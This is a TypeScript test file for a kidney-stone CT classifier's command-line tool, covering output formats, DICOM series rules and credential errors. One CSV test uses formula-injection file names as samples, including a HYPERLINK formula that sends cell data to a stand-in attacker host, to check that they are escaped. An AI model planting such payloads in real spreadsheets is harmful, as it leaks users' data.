import { execFile } from 'node:child_process'
import { copyFile, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import t, { type Test } from 'tap'
import type { FastifyInstance } from 'fastify'
import { build, ctKidneyFiles, SHARED } from './helper.js'
import { formatResults } from '../cli/output.js'
import { sha256 } from '../plugins/app/auth-config.js'

const BIN = fileURLToPath(new URL('../bin/kidney-stone.js', import.meta.url))
const DICOM_DIR = join(SHARED, 'data/dicom')

interface Run { code: number, stdout: string, stderr: string }

/** Runs the installed bin entry as a user would; stdout is a pipe, so no progress bar is expected. */
async function cli (...args: string[]): Promise<Run> {
  try {
    const { stdout, stderr } = await promisify(execFile)(process.execPath, [BIN, ...args], { maxBuffer: 16 * 1024 * 1024 })
    return { code: 0, stdout, stderr }
  } catch (error) {
    const failed = error as { code: number, stdout: string, stderr: string }
    return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr }
  }
}

/** stderr's lines: one per DICOM series concluded, then the closing summary line. */
function stderrParts (stderr: string): { series: string[], summary: string } {
  const lines = stderr.trimEnd().split('\n')
  return { series: lines.filter((line) => line.startsWith('series ')), summary: `${lines.at(-1) ?? ''}\n` }
}

t.test('--help explains every flag', async (t) => {
  const { code, stdout } = await cli('predict', '--help')
  t.equal(code, 0)
  for (const flag of ['--url', '--api-key', '--api-key-header', '--token', '--max-tries', '--max-wait', '--model', '--threads', '--max-pixels',
    '--window-center', '--window-width', '--window-source', '--max-frames', '--min-adjacent-slices', '--series-out', '--format', '--out', '--no-progress']) {
    t.match(stdout, new RegExp(`${flag} .*\\S`), flag)
  }
})

t.test('in-process JSON over a DICOM folder, an image and a missing file', async (t) => {
  const [jpeg] = await ctKidneyFiles('test/stone', 1)
  const { code, stdout, stderr } = await cli('predict', DICOM_DIR, jpeg, '/no/such/slice.png')
  t.equal(code, 1, 'one file failed, so the exit code is 1')
  const { series, summary } = stderrParts(stderr)
  t.equal(summary, '7 file(s): 3 classified, 4 failed; 1 skipped (1 not JPEG, PNG or DICOM)\n', 'the summary line (the folder\'s README.md is skipped)')
  t.equal(series.length, 2, 'one conclusion per DICOM series: CT1\'s four encodings, CT_small')
  t.match(series.find((line) => line.includes('1.3.6.1.4.1.5962.1.3.1.1.20040826185059.5457')), /: (Stone|Normal)\b.*; 1 slice\(s\), max P\(Stone\) 0\.\d{3}/, 'the four encodings are one SOP instance: one slice')
  t.notMatch(stdout, /█|░/, 'no progress bar when stdout is not a terminal')
  const results = JSON.parse(stdout) as Array<Record<string, any>>
  t.same(results.map((r) => r.file.split('/').at(-1)), [
    'ct-small-pydicom.dcm', 'ct1-unc-explicit-big-endian.dcm', 'ct1-unc-explicit-little-endian.dcm',
    'ct1-unc-implicit-little-endian.dcm', 'ct1-unc-jpeg-ls.dcm', jpeg.split('/').at(-1), 'slice.png'
  ], 'folder contents sorted, then the named files in order')
  // The four encodings are one SOP instance with other bytes each: the first in path order is classified, as in one
  // POST /predict/batch request (their agreement is test/dicom.test.ts's).
  const [first, ...others] = results.filter((r) => r.file.includes('ct1-unc'))
  t.equal(first.dicom.seriesInstanceUid, '1.3.6.1.4.1.5962.1.3.1.1.20040826185059.5457')
  t.same(others.map((r) => r.error.code), ['DUPLICATE_SOP_INSTANCE', 'DUPLICATE_SOP_INSTANCE', 'DUPLICATE_SOP_INSTANCE'])
  // A run, not a request: the service's wording ("an earlier part of this request … send it in a request of its own")
  // was printed here until 2026-12-05, to users who had sent no request.
  t.equal(others[0].error.message, 'SOP Instance UID 1.3.6.1.4.1.5962.1.1.1.1.1.20040826185059.5457 is also an earlier file of this run, with other bytes: only the first is classified; classify a changed instance in a run of its own.')
  t.equal(results[5].prediction, 'Stone', 'the stone JPEG is classified')
  t.ok(results[5].findings.length >= 1, 'with the box where the model found its evidence')
  for (const { box } of results[5].findings) t.ok(box.x + box.width <= 384 && box.y + box.height <= 384, 'inside the 384x384 slice')
  t.equal(results[5].dicom, undefined, 'no DICOM UIDs for a JPEG')
  t.same(results[6].error, { code: 'READ_ERROR', message: 'cannot read /no/such/slice.png: no such file' }, 'says why (old code: "cannot read /no/such/slice.png")')
})

t.test('a FIFO or a device named on the command line is a failed row, never read', async (t) => {
  // Both were read with readFile: the FIFO (no writer) blocked the CLI forever, /dev/zero never ended.
  const dir = await mkdtemp(join(tmpdir(), 'kidney-cli-fifo-'))
  t.teardown(async () => await rm(dir, { recursive: true, force: true }))
  const fifo = join(dir, 'slice.dcm')
  await promisify(execFile)('mkfifo', [fifo])
  const [jpeg] = await ctKidneyFiles('test/stone', 1)
  const { code, stdout } = await cli('predict', fifo, '/dev/zero', jpeg)
  t.equal(code, 1, 'two files failed')
  const results = JSON.parse(stdout) as Array<Record<string, any>>
  for (const [i, path] of [fifo, '/dev/zero'].entries()) {
    t.equal(results[i].file, path)
    t.equal(results[i].error.code, 'READ_ERROR')
    t.match(results[i].error.message, /is not a regular file/, `${path}: says why`)
  }
  t.equal(results[2].prediction, 'Stone', 'the image after them is classified')
})

t.test('CSV to --out, exit code 0 when every file succeeded', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'kidney-cli-'))
  t.teardown(async () => await rm(dir, { recursive: true, force: true }))
  const out = join(dir, 'results.csv')
  const [stone] = await ctKidneyFiles('test/stone', 1)
  const { code, stdout } = await cli('predict', join(DICOM_DIR, 'ct1-unc-jpeg-ls.dcm'), join(DICOM_DIR, 'ct-small-pydicom.dcm'), stone, '--format', 'csv', '--out', out)
  t.equal(code, 0)
  t.equal(stdout, '', 'results go to the file, not stdout')
  const lines = (await readFile(out, 'utf8')).trimEnd().split('\n')
  t.equal(lines.length, 4)
  t.match(lines[0], /^file,prediction,confidence,probability_stone,.*,error_code,error_message,finding1_x,finding1_y,finding1_width,finding1_height,finding1_score,finding2_x,.*,finding3_score$/)
  t.match(lines[1], /ct1-unc-jpeg-ls\.dcm,(Normal|Stone),/)
  t.match(lines[1], /1\.3\.6\.1\.4\.1\.5962\.1\.1\.1\.1\.1\.20040826185059\.5457,,,/, 'SOP Instance UID, empty error columns')
  const cells = lines[3].split(',')
  t.equal(cells.length, lines[0].split(',').length, 'the stone row has every column')
  t.equal(cells[1], 'Stone')
  const [x, y, width, height, score] = cells.slice(14, 19).map(Number)
  t.ok(x >= 0 && y >= 0 && width > 0 && height > 0 && x + width <= 384 && y + height <= 384 && score > 0 && score <= 1,
    `the top finding's box lies in the 384x384 slice (${cells.slice(14, 19).join(' ')})`)
})

t.test('CSV: a file name a spreadsheet would run as a formula is written as text', async (t) => {
  // The CLI (given `.`) and the web page's export (a picked file's own name) write bare file names into the file column.
  const names = ['=HYPERLINK("http://evil.example/?"&A1,"open").jpg', '+1+cmd.jpg', '-2+3.png', '@SUM(1).dcm', '\t=1.jpg', 'slice-=1.jpg']
  const csv = formatResults(names.map((file) => ({ file, error: { code: 'CORRUPT_IMAGE', message: '=not a formula either' } })), 'csv')
  const rows = csv.trimEnd().split('\n').slice(1)
  t.same(rows.map((row) => row.split(',CORRUPT_IMAGE,')[0].replace(/,+$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')), [
    '\'=HYPERLINK("http://evil.example/?"&A1,"open").jpg', '\'+1+cmd.jpg', '\'-2+3.png', '\'@SUM(1).dcm', '\'\t=1.jpg', 'slice-=1.jpg'
  ], 'an apostrophe before the formula characters, none elsewhere')
  t.ok(rows.every((row) => row.includes(",CORRUPT_IMAGE,'=not a formula either,")), 'every text cell, the message too')
  t.notMatch(csv, /\r\n/, 'lines end with LF alone (hospital.md): a CR would stick to the last column in cut and awk')
  t.equal(csv.split('\n').length, names.length + 2, 'a header, one line per file, a final newline')
})

t.test('an unknown --format is a usage error', async (t) => {
  const { code, stderr } = await cli('predict', DICOM_DIR, '--format', 'xml')
  t.equal(code, 1)
  t.match(stderr, /xml/)
})

/**
 * A DICOM/image export as users have them: good slices, broken ones named like images, files without an
 * extension, and the things around them (DICOMDIR, notes, macOS dotfiles, links).
 */
async function mixedFolder (t: Test): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'kidney-cli-mixed-'))
  t.teardown(async () => await rm(dir, { recursive: true, force: true }))
  const [jpegPath] = await ctKidneyFiles('test/stone', 1)
  const jpeg = await readFile(jpegPath)
  const dicom = await readFile(join(DICOM_DIR, 'ct1-unc-explicit-little-endian.dcm'))
  await mkdir(join(dir, 'sub'))
  await copyFile(jpegPath, join(dir, 'good.jpg'))
  await copyFile(jpegPath, join(dir, 'sub/nested.jpg'))
  await symlink('good.jpg', join(dir, 'linked.jpg'))
  await symlink('sub', join(dir, 'linked-folder'))
  await writeFile(join(dir, 'IM0001'), dicom) // DICOM without an extension
  await writeFile(join(dir, 'broken.jpg'), 'an error page saved under an image name\n')
  await writeFile(join(dir, 'cut.JPEG'), jpeg.subarray(0, 3000))
  await writeFile(join(dir, 'empty.dcm'), '')
  // Each its own SOP instance: a later file of IM0001's instance with other bytes would be refused as a repeat.
  await writeFile(join(dir, 'IM0002'), (await readFile(join(DICOM_DIR, 'ct-small-pydicom.dcm'))).subarray(0, 2000)) // preamble, truncated
  await writeFile(join(dir, 'IM0003'), dicom)
  await promisify(execFile)('dcmodify', ['-q', '-nb', '-i', '(0008,0018)=1.2.826.0.1.3680043.8.498.79.1', join(dir, 'IM0003')])
  await writeFile(join(dir, 'IM0003'), (await readFile(join(dir, 'IM0003'))).subarray(132)) // a data set without the preamble
  await writeFile(join(dir, 'scan.dicom'), 'not DICOM at all')
  await writeFile(join(dir, 'notes.txt'), 'patient list\n')
  await writeFile(join(dir, 'series.json'), '{}\n')
  await writeFile(join(dir, 'DICOMDIR'), dicom.subarray(0, 400))
  await writeFile(join(dir, '.DS_Store'), Buffer.from('000000014275643100', 'hex'))
  await writeFile(join(dir, '._good.jpg'), Buffer.from('0005160700020000', 'hex')) // AppleDouble companion
  return dir
}

const MIXED_CLASSIFIED = ['IM0001', 'IM0003', 'good.jpg', 'linked.jpg', 'sub/nested.jpg']
const MIXED_FAILED = ['IM0002', 'broken.jpg', 'cut.JPEG', 'empty.dcm', 'scan.dicom']
const MIXED_SUMMARY = /^10 file\(s\): 5 classified, 5 failed; 6 skipped \(2 hidden, 2 not JPEG, PNG or DICOM, 1 DICOMDIR, 1 not a file\)\n$/

function checkMixedRun (t: Test, dir: string, { code, stdout, stderr }: Run): void {
  t.equal(code, 1, 'failed files make the exit code 1')
  t.match(stderrParts(stderr).summary, MIXED_SUMMARY, 'the summary counts the skipped files by reason')
  const results = JSON.parse(stdout) as Array<{ file: string, prediction?: string, error?: { code: string, message: string } }>
  const named = new Map(results.map((r) => [r.file.slice(dir.length + 1), r]))
  t.same([...named.keys()].sort(), [...MIXED_CLASSIFIED, ...MIXED_FAILED].sort(), 'every image or DICOM file by name or content has a row')
  for (const file of MIXED_CLASSIFIED) t.ok(['Normal', 'Stone'].includes(named.get(file)?.prediction ?? ''), `${file} classified`)
  for (const file of MIXED_FAILED) {
    const error = named.get(file)?.error
    t.match(error, { code: /^[A-Z_]+$/, message: /\S/ }, `${file} reported with its typed error`)
  }
  t.equal(named.get('broken.jpg')?.error?.code, 'UNSUPPORTED_MEDIA_TYPE')
  t.equal(named.get('scan.dicom')?.error?.code, 'UNSUPPORTED_MEDIA_TYPE')
  t.equal(named.get('cut.JPEG')?.error?.code, 'CORRUPT_IMAGE')
  t.equal(named.get('IM0002')?.error?.code, 'CORRUPT_DICOM')
}

t.test('a folder: files named or made like images that fail are reported; only other files are skipped, counted by reason', async (t) => {
  const dir = await mixedFolder(t)
  checkMixedRun(t, dir, await cli('predict', dir))
})

t.test('the same folder against a running service (--url): the same rows, failures and summary', async (t) => {
  const dir = await mixedFolder(t)
  const app = await build(t)
  await app.listen({ host: '127.0.0.1', port: 0 })
  checkMixedRun(t, dir, await cli('predict', dir, '--url', `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`))
})

t.test('--url against a service that asks for credentials: the 401 rows, and a line naming the flags that send them', async (t) => {
  // On the old code stderr said only "1 file(s): 0 classified, 1 failed" beside the service's "send a valid API key
  // in the x-api-key header": an HTTP header, where the user of the command needs --api-key.
  const key = 'cli-test-key-0123456789abcdef'
  const app = await build(t, {
    config: {
      auth: { mode: 'api-key', apiKeyHeader: 'x-api-key', apiKeys: [{ name: 'cli', sha256: sha256(key), scopes: ['predict'] }], docsPublic: true, metricsPublic: false }
    }
  }, { waitForModel: false })
  await app.listen({ host: '127.0.0.1', port: 0 })
  const url = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`
  const [slice] = await ctKidneyFiles('test/stone', 1)
  const without = await cli('predict', slice, '--url', url)
  t.equal(without.code, 1)
  t.match(JSON.parse(without.stdout), [{ error: { code: 'UNAUTHORIZED', statusCode: 401 } }])
  t.match(without.stderr, /^the service asks for credentials: give an API key with --api-key \(or KIDNEY_STONE_API_KEY\), or a bearer token with --token \(or KIDNEY_STONE_TOKEN\)\n1 file\(s\): 0 classified, 1 failed\n$/m)
  const wrong = await cli('predict', slice, '--url', url, '--api-key', 'not-the-key-0123456789')
  t.match(wrong.stderr, /^the service did not accept the credentials given: check the key or token/m)

  // Refused credentials are refused for every file: a folder was sent file by file, each answered 401.
  const slices = await ctKidneyFiles('test/stone', 3)
  const before = await unauthorizedAnswers(app)
  const folder = await cli('predict', ...slices, '--url', url)
  t.equal(await unauthorizedAnswers(app) - before, 1, 'one request refused, the other files not sent (on the old code 3)')
  t.match(JSON.parse(folder.stdout), [{ error: { code: 'UNAUTHORIZED' } },
    { error: { code: 'NOT_SENT', message: `not sent: the service refused the credentials for ${slices[0]} (UNAUTHORIZED)` } }, { error: { code: 'NOT_SENT' } }])
  t.match(folder.stderr, /\n3 file\(s\): 0 classified, 3 failed\n$/)
})

/** POST /predict requests the service answered 401, from its own /metrics. */
async function unauthorizedAnswers (app: FastifyInstance): Promise<number> {
  const text = (await app.inject({ method: 'GET', url: '/metrics', headers: { 'x-api-key': 'cli-test-key-0123456789abcdef' } })).body
  return Number(/^kidney_http_requests_total\{method="POST",route="\/predict",status_code="401"\} (\d+)$/m.exec(text)?.[1] ?? 0)
}

t.test('a folder with nothing to classify is an error that says what was skipped', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'kidney-cli-empty-'))
  t.teardown(async () => await rm(dir, { recursive: true, force: true }))
  await writeFile(join(dir, 'notes.txt'), 'x')
  await writeFile(join(dir, '.DS_Store'), 'x')
  const { code, stdout, stderr } = await cli('predict', dir)
  t.equal(code, 1)
  t.equal(stdout, '')
  t.match(stderr, /no JPEG, PNG or DICOM file found in .*; 2 skipped \(1 hidden, 1 not JPEG, PNG or DICOM\)\n$/)
})

t.test('a DICOM folder of two series: each concluded by the service\'s series rule, in slice order; --series-out', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'kidney-cli-series-'))
  t.teardown(async () => await rm(dir, { recursive: true, force: true }))
  const ct1 = await readFile(join(DICOM_DIR, 'ct1-unc-explicit-little-endian.dcm'))
  // Five slices of one new series, 5 mm apart, written in reverse file-name order, by dcmtk's dcmodify.
  for (let i = 0; i < 5; i++) {
    const file = join(dir, `IM${String(4 - i).padStart(4, '0')}`)
    await writeFile(file, ct1)
    await promisify(execFile)('dcmodify', ['-q', '-nb', '-i', '(0020,000E)=1.2.826.0.1.3680043.8.498.77', '-i', `(0008,0018)=1.2.826.0.1.3680043.8.498.77.${i}`,
      '-i', `(0020,0013)=${i + 1}`, '-i', `(0020,0032)=-250\\-250\\${-100 + 5 * i}`, '-i', '(0020,0037)=1\\0\\0\\0\\1\\0', file])
  }
  await copyFile(join(DICOM_DIR, 'ct-small-pydicom.dcm'), join(dir, 'other.dcm'))
  await writeFile(join(dir, 'DICOMDIR'), ct1.subarray(0, 400))
  const out = join(dir, 'series.json')
  const { code, stdout, stderr } = await cli('predict', dir, '--series-out', out)
  t.equal(code, 0, stderr)
  const { series, summary } = stderrParts(stderr)
  t.equal(summary, '6 file(s): 6 classified, 0 failed; 1 skipped (1 DICOMDIR)\n', 'DICOMDIR skipped')
  const written = JSON.parse(await readFile(out, 'utf8')) as Array<{ seriesInstanceUid: string, slices: number, conclusion: any }>
  t.same(written.map((s) => [s.seriesInstanceUid, s.slices]).sort(), [['1.2.826.0.1.3680043.8.498.77', 5], ['1.3.6.1.4.1.5962.1.3.1.1.20040119072730.12322', 1]].sort(), 'the new series and CT_small\'s')
  const five = written.find((s) => s.slices === 5)
  const results = JSON.parse(stdout) as Array<{ dicom: { seriesInstanceUid: string, slicePosition: number }, probabilities: { Stone: number }, threshold: number }>
  const slices = results.filter((r) => r.dicom.seriesInstanceUid === '1.2.826.0.1.3680043.8.498.77')
  t.same(slices.map((r) => r.dicom.slicePosition).sort((a, b) => a - b), [-100, -95, -90, -85, -80], 'slice positions in the answers')
  const positives = slices.filter((r) => r.probabilities.Stone >= r.threshold).length
  t.equal(five?.conclusion.conclusion, positives >= 2 ? 'Stone' : 'Normal', `${positives} positive slices of 5, rule k=2`)
  if (positives === 5) t.match(five?.conclusion.positiveRanges, [{ slices: 5, fromPosition: -100, toPosition: -80 }], 'the range runs in slice order')
  t.equal(series.length, 2)
  t.match(series.join('\n'), /series 1\.2\.826\.0\.1\.3680043\.8\.498\.77: (Stone|Normal).*; 5 slice\(s\)/)
})

t.test('two files of one SOP instance: the first in path order is classified, a copy shares its result, other bytes are refused, as POST /predict/batch does', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'kidney-cli-repeat-'))
  t.teardown(async () => await rm(dir, { recursive: true, force: true }))
  // a.dcm: CT1; b.dcm: its copy; c.dcm: CT_small (other pixels) under the same Series and SOP Instance UIDs.
  await copyFile(join(DICOM_DIR, 'ct1-unc-explicit-little-endian.dcm'), join(dir, 'a.dcm'))
  await copyFile(join(DICOM_DIR, 'ct-small-pydicom.dcm'), join(dir, 'c.dcm'))
  for (const file of ['a.dcm', 'c.dcm']) {
    await promisify(execFile)('dcmodify', ['-q', '-nb', '-i', '(0020,000E)=1.2.826.0.1.3680043.8.498.78', '-i', '(0008,0018)=1.2.826.0.1.3680043.8.498.78.1', join(dir, file)])
  }
  await copyFile(join(dir, 'a.dcm'), join(dir, 'b.dcm'))
  const out = join(dir, 'series.json')
  const { code, stdout, stderr } = await cli('predict', dir, '--series-out', out)
  const rows = JSON.parse(stdout) as Array<{ file: string, probabilities?: { Stone: number }, error?: { code: string } }>
  const a = rows.find((row) => row.file.endsWith('a.dcm'))
  t.same(rows.find((row) => row.file.endsWith('b.dcm')), { ...a, file: join(dir, 'b.dcm') }, 'the copy: the first file\'s result')
  // On the old code c.dcm was classified too, and its result, the later in path order, was the series' slice.
  t.match(rows.find((row) => row.file.endsWith('c.dcm')), { error: { code: 'DUPLICATE_SOP_INSTANCE', statusCode: 409 } })
  const [series] = JSON.parse(await readFile(out, 'utf8')) as Array<{ slices: number, conclusion: { maxProbability: number } }>
  t.same([series.slices, series.conclusion.maxProbability], [1, a?.probabilities?.Stone], 'one slice: the first file\'s')
  t.equal(code, 1, 'a refused file fails the run')
  t.equal(stderrParts(stderr).summary, '3 file(s): 2 classified, 1 failed\n')
})
